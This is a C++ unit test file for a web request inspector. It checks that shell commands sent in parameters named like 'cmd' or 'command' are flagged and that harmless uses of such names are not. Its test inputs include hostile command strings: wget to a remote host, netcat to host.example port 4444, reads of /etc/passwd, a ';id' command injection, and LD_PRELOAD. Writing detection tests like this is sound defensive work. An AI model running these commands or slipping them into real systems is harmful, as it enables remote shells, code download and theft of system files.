#include "inspect/shell/named.h"

#include <gtest/gtest.h>

namespace onesec::inspect {
namespace {

std::uint32_t points(std::string_view name, std::string_view text, Part part = Part::QueryValue) {
  Reasons out;
  shell::read_named({part, name, text}, text, out);
  return out.points(Attack::Shell);
}

TEST(NamedCommand, WebShellsAreAsked) {
  for (const std::string_view text :
       {"id", "whoami", "ps aux", "uname -a", "ls -la", "ls /srv", "cat notes.txt", "cat /etc/group", "dir", "net user",
        "wget http://host.example/a", "nc 192.0.2.7 4444", "/usr/bin/id", "whoami.exe", "aWQ=", "/bin/ab",
        "powershell C:\\\\x\\\\a.exe", "python3 /srv/a.py", "tar -czf /tmp/a.tgz /srv"}) {
    EXPECT_GE(points("cmd", text), kThreshold) << text;
    EXPECT_GE(points("sys_exec", text), kThreshold) << text;
    EXPECT_GE(points("shellCommand", text), kThreshold) << text;
    EXPECT_GE(points("_cmd", text), kThreshold) << text;
    EXPECT_EQ(points("q", text), 0U) << text;
    EXPECT_EQ(points("executive", text), 0U) << text;
  }
}
TEST(NamedCommand, ArgumentsOfAShellAndSeveralCommands) {
  EXPECT_GE(points("utilCmdArgs", "-c 'cat /etc/group'", Part::JsonValue), kThreshold);
  EXPECT_GE(points("system", "eA==;id"), kThreshold);
  EXPECT_GE(points("c", "uname -a"), kThreshold);
  EXPECT_EQ(points("c", "id"), 0U);
  EXPECT_EQ(points("c", "uname is a command"), 0U);
}
TEST(NamedCommand, OtherThingsThatAreCalledCommands) {
  // File managers, payments, games, boards, routers.
  for (const std::string_view text : {"ls",         "open",
                                      "mkdir",      "rm",
                                      "get",        "file",
                                      "search",     "_xclick",
                                      "install",    "start",
                                      "view page",  "ping 192.0.2.7",
                                      "time",       "help me",
                                      "set volume", "12",
                                      "print 2",    "ps",
                                      "ver",        "who",
                                      "make -j4",   "git pull --rebase",
                                      "sort -k 2",  "/bin/zsh",
                                      "id 12"})
    EXPECT_EQ(points("cmd", text), 0U) << text;
}
TEST(NamedCommand, SettingsOfProgramsInDocuments) {
  for (const std::string_view text :
       {"node server.js", "npm run build", "/bin/bash", "python -m http.server", "ls -la"})
    EXPECT_EQ(points("command", text, Part::JsonValue), 0U) << text;
  for (const std::string_view text : {"whoami", "nc host.example 4444", "cat /etc/passwd"})
    EXPECT_GE(points("command", text, Part::JsonValue), kThreshold) << text;
}
TEST(NamedCommand, VariablesThatLoadCode) {
  EXPECT_GE(points("", "LD_PRELOAD", Part::QueryName), kThreshold);
  EXPECT_GE(points("", "PHPRC", Part::QueryName), kThreshold);
  EXPECT_EQ(points("", "LD_PRELOADED", Part::QueryName), 0U);
  EXPECT_EQ(points("", "LD_PRELOAD", Part::QueryValue), 0U);
}

}  // namespace
}  // namespace onesec::inspect
